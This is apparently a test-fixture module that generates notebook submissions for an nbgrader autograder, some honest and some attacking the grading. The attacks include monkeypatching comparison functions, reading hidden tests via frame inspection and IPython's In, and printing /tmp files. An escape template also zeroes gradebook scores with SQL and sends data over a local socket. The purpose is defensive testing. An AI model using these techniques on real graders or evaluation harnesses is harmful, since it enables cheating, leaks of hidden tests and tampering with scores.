"""Generated student submissions for ``tests/test_homework.py`` and ``benchmarks/bench_grading.py``.

Each submission starts from the *released* notebook (what students download) and fills in the
cells a student may edit, the way a student would: ``one_cycle`` (grade id
``one_cycle_solution``), ``ONE_CYCLE_CONFIG`` (``one_cycle_config``), the written answer
(``explain_one_cycle``), and sometimes cells of its own. Besides honest submissions (correct,
untouched stub, partly correct, plainly wrong) there are attacks on the grading itself; every
attack is built on the plainly wrong answer, so "earns no more than a wrong answer" is the
claim to test. ``EXPECTED_AUTOGRADE`` says what each one must score.
"""

from __future__ import annotations

import copy
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

HOMEWORK = Path(__file__).resolve().parents[1] / "homework"
SOURCE = HOMEWORK / "source" / "one_cycle" / "one_cycle.ipynb"

# Autograded points per cell, as in homework/tools/build_source_notebook.py.
CELL_POINTS = {
    "one_cycle_two_phase_cos": 4,
    "one_cycle_linear": 2,
    "one_cycle_three_phase": 3,
    "one_cycle_validation": 1,
    "train_to_target": 5,
}
AUTOGRADED_TOTAL = sum(CELL_POINTS.values())


def marked_lines(nb: nbformat.NotebookNode, min_chars: int) -> tuple[set[str], set[str]]:
    """Stripped lines inside nbgrader's hidden-test and solution regions of ``nb``, those of at
    least ``min_chars`` characters (long enough to be the notebook's own, not a bracket or a
    bare ``else:``)."""
    hidden, solution = set(), set()
    for cell in nb.cells:
        region = None
        for line in cell.source.splitlines():
            if "BEGIN HIDDEN TESTS" in line:
                region = hidden
            elif "BEGIN SOLUTION" in line:
                region = solution
            elif "END HIDDEN TESTS" in line or "END SOLUTION" in line:
                region = None
            elif region is not None and len(line.strip()) >= min_chars:
                region.add(line.strip())
    return hidden, solution


def hidden_and_solution_lines() -> tuple[set[str], set[str]]:
    """Distinctive lines of the source notebook's hidden tests and solutions (stripped).

    None of them may reach a student: the released notebook, the book's HTML, feedback.
    (A line that the released notebook also holds, such as a signature, is not secret.)
    """
    return marked_lines(nbformat.read(SOURCE, as_version=4), min_chars=12)


def _solution_of(grade_id: str) -> str:
    """The instructor's solution cell, markers removed: what a perfect student writes."""
    nb = nbformat.read(SOURCE, as_version=4)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return "\n".join(
                line for line in cell.source.splitlines() if "### BEGIN" not in line
                and "### END" not in line
            )  # fmt: skip
    raise KeyError(grade_id)


ANSWER = (
    "1cycle starts low, climbs to max_lr, then anneals far below the start. "
    "In my own words: the large rate in the middle regularises, the end settles."
)

GOOD_CONFIG = 'ONE_CYCLE_CONFIG = {"optimizer": "adam", "max_lr": 0.03, "pct_start": 0.3}'
WEAK_CONFIG = 'ONE_CYCLE_CONFIG = {"optimizer": "sgd", "momentum": 0.9, "max_lr": 0.003}'

VALIDATION = """
    if isinstance(total_steps, bool) or not isinstance(total_steps, int) or total_steps < 1:
        raise ValueError(f"total_steps must be an int >= 1, got {total_steps}")
    if isinstance(step, bool) or not isinstance(step, int) or not 0 <= step < total_steps:
        raise ValueError(f"step must be in [0, total_steps), got {step}")
    if not (max_lr > 0 and div_factor > 0 and final_div_factor > 0):
        raise ValueError("max_lr, div_factor and final_div_factor must be > 0")
    if not 0 <= pct_start <= 1:
        raise ValueError(f"pct_start must be in [0, 1], got {pct_start}")
    if anneal_strategy not in ("cos", "linear"):
        raise ValueError(f"anneal_strategy must be 'cos' or 'linear', got {anneal_strategy}")
"""

SIGNATURE = """
def one_cycle(step, total_steps, max_lr, pct_start=0.3, anneal_strategy="cos",
              div_factor=25.0, final_div_factor=1e4, three_phase=False):
"""

# Phase 1 ends at pct_start * T instead of torch's pct_start * T - 1, and three phases are
# ignored: a plausible, plainly wrong answer. Its validation is right (1 point).
WRONG_ONE_CYCLE = (
    SIGNATURE
    + VALIDATION
    + """
    start = max_lr / div_factor
    floor = start / final_div_factor
    peak = pct_start * total_steps
    if step <= peak:
        a, b, tau = start, max_lr, (step / peak if peak else 1.0)
    else:
        a, b, tau = max_lr, floor, (step - peak) / (total_steps - peak)
    if anneal_strategy == "cos":
        return b + (a - b) / 2 * (1 + math.cos(math.pi * tau))
    return a + (b - a) * tau
"""
)

# Right for two phases, ignores three_phase: parts of part 1.
PARTIAL_ONE_CYCLE = (
    SIGNATURE
    + VALIDATION
    + """
    start = max_lr / div_factor
    floor = start / final_div_factor
    end1 = float(pct_start * total_steps) - 1
    if step <= end1:
        a, b, tau = start, max_lr, step / end1
    else:
        a, b, tau = max_lr, floor, (step - end1) / (total_steps - 1 - end1)
    if anneal_strategy == "cos":
        return b + (a - b) / 2.0 * (math.cos(math.pi * tau) + 1)
    return (b - a) * tau + a
"""
)

LIAR = (
    """
import builtins
import math

import numpy
import pytest


class Liar(float):
    # equal to everything, nothing is ever far from it
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __sub__(self, other): return Liar(0.0)
    def __rsub__(self, other): return Liar(0.0)
    def __abs__(self): return Liar(0.0)
    def __float__(self): return self
    __hash__ = float.__hash__


math.isclose = lambda *a, **k: True
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: True
pytest.approx = lambda expected, *a, **k: Liar(expected)
builtins.abs = lambda x: 0.0
builtins.float = Liar
_wrong = None
"""
    + WRONG_ONE_CYCLE.replace("def one_cycle(", "def _wrong_one_cycle(")
    + """

def one_cycle(*args, **kwargs):
    return Liar(_wrong_one_cycle(*args, **kwargs))
"""
)

TORCH = (
    SIGNATURE
    + VALIDATION
    + """
    import torch

    opt = torch.optim.SGD([torch.zeros(1, requires_grad=True)], lr=max_lr)
    sched = getattr(torch.optim.lr_scheduler, "One" + "CycleLR")(
        opt, max_lr=max_lr, total_steps=total_steps, pct_start=float(pct_start),
        anneal_strategy=anneal_strategy, div_factor=div_factor,
        final_div_factor=final_div_factor, three_phase=three_phase, cycle_momentum=False)
    for _ in range(step):
        sched.step()
    return opt.param_groups[0]["lr"]
"""
)

# Reads the expected value out of the calling test, and prints the test's source (to find it
# later in the feedback); falls back to the wrong answer.
PEEK = (
    "import sys\n"
    + WRONG_ONE_CYCLE.replace("def one_cycle(", "def _wrong_one_cycle(")
    + """

_leaked = []


def one_cycle(*args, **kwargs):
    frame = sys._getframe(1)
    for name in ("_want", "want", "expected"):
        if name in frame.f_globals:
            return frame.f_globals[name]
    import linecache
    source = "".join(linecache.getlines(frame.f_code.co_filename))
    if source and source not in _leaked:
        _leaked.append(source)
        print("LEAK-FROM-CALLER:", source)
    return _wrong_one_cycle(*args, **kwargs)
"""
)

EXFILTRATE_CELL = """
# a cell of the student's own, after the hidden tests have run
import glob
print("LEAK-IN:", "\\n".join(In))
for path in glob.glob("/tmp/**/*.py", recursive=True):
    print("LEAK-FILE:", open(path).read())
"""

# Makes every later cell that mentions hidden tests a no-op, and switches off profile hooks.
TAMPER = (
    WRONG_ONE_CYCLE.replace("def one_cycle(", "def _wrong_one_cycle(")
    + """

def _blank_hidden(lines):
    if any("HIDDEN TESTS" in line for line in lines):
        return ["pass\\n"]
    return lines


get_ipython().input_transformers_cleanup.append(_blank_hidden)


def one_cycle(*args, **kwargs):
    import sys
    sys.setprofile(None)
    return _wrong_one_cycle(*args, **kwargs)
"""
)

EXIT_CONFIG = GOOD_CONFIG + "\nimport os\nos._exit(3)\n"
SYS_EXIT = "\nimport sys\nsys.exit(0)\n"

PLAIN_LOOP_CELL = "while True:\n    pass\n"
HARD_LOOP_CONFIG = (
    GOOD_CONFIG + "\nimport signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n"
    "    pass\n"
)

ESCAPE_TEMPLATE = """
import glob
import os
import socket
import sqlite3


def attempt(name, action):
    try:
        result = action()
    except BaseException as exc:
        print(f"ESCAPE {name}: blocked ({type(exc).__name__})")
    else:
        print(f"ESCAPE {name}: SUCCEEDED {str(result)[:60]!r}")


course = os.path.abspath("../../..")
def read(path): return open(path, "rb").read(100)
def write(path):
    with open(path, "ab") as f:
        f.write(b"x")
def sql():
    db = sqlite3.connect(os.path.join(course, "gradebook.db"))
    db.execute("UPDATE grade SET auto_score = 0")
    db.commit()
    return "updated"
def connect():
    s = socket.create_connection(("127.0.0.1", @PORT@), timeout=3)
    s.sendall(b"exfiltrated")
    return "sent"


attempt("read-source", lambda: read(os.path.join(course, "source/one_cycle/one_cycle.ipynb")))
attempt("read-own-autograded", lambda: read("one_cycle.ipynb"))
attempt("read-gradebook", lambda: read(os.path.join(course, "gradebook.db")))
attempt("write-gradebook", lambda: write(os.path.join(course, "gradebook.db")))
attempt("sqlite-gradebook", sql)
attempt("read-other-student", lambda: os.listdir(os.path.join(course, "submitted", "correct")))
attempt("list-course", lambda: os.listdir(course))
attempt("read-release", lambda: os.listdir(os.path.join(course, "release")))
attempt("read-homework-in-repo", lambda: os.listdir("@REPO_HOMEWORK@"))
attempt("write-cwd", lambda: write("planted.py"))
attempt("write-private-dir", lambda: write(glob.glob("/tmp/lrlab-kernel-*")[0] + "/fill.bin"))
attempt("write-root", lambda: write(os.path.join(course, "planted.txt")))
attempt("network", connect)
print("x" * 20_000_000)
"""


# -- attacks of issue 12 on the grader's decision ---------------------------------------------

# Publishes an execute_result "ok" into whatever cell calls it (nbgrader used to read the
# first execute_result as full credit), with the plainly wrong values.
DISPLAYHOOK = (
    "import sys\n"
    + WRONG_ONE_CYCLE.replace("def one_cycle(", "def _wrong_one_cycle(")
    + """

def one_cycle(*args, **kwargs):
    sys.displayhook("ok")
    return _wrong_one_cycle(*args, **kwargs)
"""
)

# torch's OneCycleLR run in a worker thread (a profile hook of the calling thread never sees
# it), its name spelled in pieces so that no forbidden name appears in the code.
THREAD = (
    SIGNATURE
    + VALIDATION
    + """
    import threading

    import torch

    box = []

    def work():
        module = getattr(torch.optim, "lr_" + "sched" + "uler")
        opt = torch.optim.SGD([torch.zeros(1, requires_grad=True)], lr=max_lr)
        sched = getattr(module, "One" + "CycleLR")(
            opt, max_lr=max_lr, total_steps=total_steps, pct_start=float(pct_start),
            anneal_strategy=anneal_strategy, div_factor=div_factor,
            final_div_factor=final_div_factor, three_phase=three_phase,
            cycle_momentum=False)
        for _ in range(step):
            sched.step()
        box.append(opt.param_groups[0]["lr"])

    worker = threading.Thread(target=work)
    worker.start()
    worker.join()
    return box[0]
"""
)

# A display shown before the hidden tests, rewritten while they run with the cell's source
# (IPython's In holds the running cell: hidden tests included).
LEAK_DISPLAY = (
    "from IPython.display import display, update_display\n"
    + WRONG_ONE_CYCLE.replace("def one_cycle(", "def _wrong_one_cycle(")
    + """

display("shown before the tests", display_id="leak")


def one_cycle(*args, **kwargs):
    update_display("LEAK-DISPLAY " + In[-1], display_id="leak")
    return _wrong_one_cycle(*args, **kwargs)
"""
)

# An exception class named like the grader's own, carrying the hidden tests' source.
FAKE_GRADER_ERROR = """
class GraderCheckFailed(Exception):
    pass


def one_cycle(*args, **kwargs):
    raise GraderCheckFailed("LEAK-ERROR " + In[-1])
"""

# The honest corpus: a correct answer written with idioms that must never cost a point.
HONEST_EXTRA = '''
import logging
import re

import torch

# torch.compile(model) would speed this up; not needed here.
_PATTERN = re.compile(r"^[a-z_]+$")


class TinyOptimizer:
    """A stand-in with the schedule-free optimizers' train/eval switch."""

    def train(self) -> None:
        self.mode = "train"

    def eval(self) -> None:
        self.mode = "eval"


def describe(model: torch.nn.Module) -> str:
    model.eval()
    with torch.no_grad():
        out = model(torch.zeros(1, 4))
    model.train()
    return f"{type(model).__name__}: {tuple(out.shape)}"


optimizer = TinyOptimizer()
optimizer.eval()
logging.getLogger("homework").info("helpers ready")
print(describe(torch.nn.Linear(4, 2)), optimizer.mode, bool(_PATTERN.match("one_cycle")))
'''


def _honest_one_cycle(correct: str) -> str:
    """The solution, with a print, a warning and a log line on its first call."""
    return (
        "import logging\nimport warnings\n\n_told = []\n\n"
        + correct.replace("def one_cycle(", "def _one_cycle(", 1)
        + """


def one_cycle(step: int, total_steps: int, max_lr: float, **options: object) -> float:
    if not _told:
        _told.append(True)
        print("one_cycle: first call")
        warnings.warn("one_cycle: a friendly warning", stacklevel=2)
        logging.getLogger("homework").warning("one_cycle: a log line")
    return _one_cycle(step, total_steps, max_lr, **options)
"""
    )


def load_release(release: Path) -> nbformat.NotebookNode:
    return nbformat.read(release, as_version=4)


def _set(nb: nbformat.NotebookNode, grade_id: str, source: str) -> None:
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            cell.source = source.strip("\n")
            return
    raise KeyError(grade_id)


def _insert_after(nb: nbformat.NotebookNode, grade_id_or_id: str, source: str) -> None:
    for i, cell in enumerate(nb.cells):
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id_or_id or (
            cell.get("id") == grade_id_or_id
        ):
            new = new_code_cell(source.strip("\n"))
            nb.cells.insert(i + 1, new)
            return
    raise KeyError(grade_id_or_id)


def submission(
    release_nb: nbformat.NotebookNode, kind: str, *, port: int = 9, repo_homework: str = ""
) -> nbformat.NotebookNode:
    """The notebook a student of this ``kind`` hands in (see ``EXPECTED_AUTOGRADE``)."""
    nb = copy.deepcopy(release_nb)
    if kind == "stub":
        return nb
    _set(nb, "explain_one_cycle", ANSWER)
    correct = _solution_of("one_cycle_solution")
    config = GOOD_CONFIG
    if kind == "correct":
        one_cycle = correct
    elif kind == "partial":
        one_cycle, config = PARTIAL_ONE_CYCLE, WEAK_CONFIG
    elif kind == "wrong":
        one_cycle = WRONG_ONE_CYCLE
    elif kind == "liar":
        one_cycle = LIAR
    elif kind == "torch":
        one_cycle = TORCH
    elif kind == "peek":
        one_cycle = PEEK
        _insert_after(nb, "one_cycle_config", EXFILTRATE_CELL)
    elif kind == "tamper":
        one_cycle = TAMPER
    elif kind == "correct_then_exit":
        one_cycle, config = correct, EXIT_CONFIG
    elif kind == "loops":
        one_cycle, config = WRONG_ONE_CYCLE, HARD_LOOP_CONFIG
        _insert_after(nb, "one_cycle_solution", PLAIN_LOOP_CELL)
    elif kind == "escape":
        one_cycle = WRONG_ONE_CYCLE + SYS_EXIT
        escape = ESCAPE_TEMPLATE.replace("@PORT@", str(port))
        config = GOOD_CONFIG + escape.replace("@REPO_HOMEWORK@", repo_homework)
    elif kind == "displayhook":
        one_cycle = DISPLAYHOOK
    elif kind == "thread":
        one_cycle = THREAD
    elif kind == "locked":  # torch's scheduler, with the answer cell marked locked
        one_cycle = TORCH.replace('getattr(torch.optim.lr_scheduler, "One" + "CycleLR")',
                                  "torch.optim.lr_scheduler.OneCycleLR")  # fmt: skip
        _meta(nb, "one_cycle_solution")["locked"] = True
    elif kind == "leak_display":
        one_cycle = LEAK_DISPLAY
    elif kind == "fake_grader_error":
        one_cycle = FAKE_GRADER_ERROR
    elif kind == "honest":
        one_cycle = _honest_one_cycle(correct)
        _insert_after(nb, "one_cycle_solution", HONEST_EXTRA)
    elif kind == "dup_cell":  # a test cell copied to the end (copy/paste keeps its grade_id)
        one_cycle = correct
        copied = copy.deepcopy(next(c for c in nb.cells if _grade_id(c) == "one_cycle_linear"))
        copied["id"] = "copied-test-cell"
        nb.cells.append(copied)
    elif kind == "schema":  # nbgrader metadata of another schema version
        one_cycle = correct
        for cell in nb.cells:
            if "nbgrader" in cell.metadata:
                cell.metadata["nbgrader"]["schema_version"] = 4
    else:
        raise ValueError(f"unknown submission kind {kind!r}")
    _set(nb, "one_cycle_solution", one_cycle)
    _set(nb, "one_cycle_config", config)
    return nb


def _grade_id(cell: nbformat.NotebookNode) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def _meta(nb: nbformat.NotebookNode, grade_id: str) -> dict:
    return next(c for c in nb.cells if _grade_id(c) == grade_id).metadata["nbgrader"]


ALL_CELLS = frozenset(CELL_POINTS)
# Which autograded cells each kind must pass; every other cell must score zero.
EXPECTED_PASS = {
    "correct": ALL_CELLS,
    "stub": frozenset(),
    # two phases right, three phases missing, max_lr far too small for part 3
    "partial": frozenset({"one_cycle_two_phase_cos", "one_cycle_linear", "one_cycle_validation"}),
    # off by one everywhere; its schedule still trains well enough for part 3
    "wrong": frozenset({"one_cycle_validation", "train_to_target"}),
    # attacks (built on "wrong"): each must earn no more than "wrong"
    "liar": frozenset(),  # patching builtins breaks the rules (and its own test cells)
    "torch": frozenset(),
    "peek": frozenset(),  # frame inspection breaks the rules
    "tamper": frozenset(),  # so does rewriting IPython's input
    "loops": frozenset({"one_cycle_validation"}),  # killed in part 3, before its tests
    "escape": frozenset({"one_cycle_validation", "train_to_target"}),  # got nothing out
    # not an attack: a correct notebook that kills its kernel in part 3 keeps part 1
    "correct_then_exit": ALL_CELLS - {"train_to_target"},
    # issue 12's attacks on the grader's decision
    "displayhook": frozenset({"one_cycle_validation", "train_to_target"}),  # = wrong
    "thread": frozenset({"one_cycle_validation"}),  # its validation is right; no schedule
    "locked": frozenset(),
    "leak_display": frozenset({"one_cycle_validation", "train_to_target"}),  # = wrong
    "fake_grader_error": frozenset(),
    # honest: idioms that must never cost a point, and careless but honest metadata
    "honest": ALL_CELLS,
    "dup_cell": ALL_CELLS,
    "schema": ALL_CELLS,
}
EXPECTED_AUTOGRADE = {
    kind: sum(CELL_POINTS[c] for c in cells) for kind, cells in EXPECTED_PASS.items()
}
ATTACKS = (
    "liar", "torch", "peek", "tamper", "loops", "escape",
    "displayhook", "thread", "locked", "leak_display", "fake_grader_error",
)  # fmt: skip
HONEST = ("honest", "dup_cell", "schema")
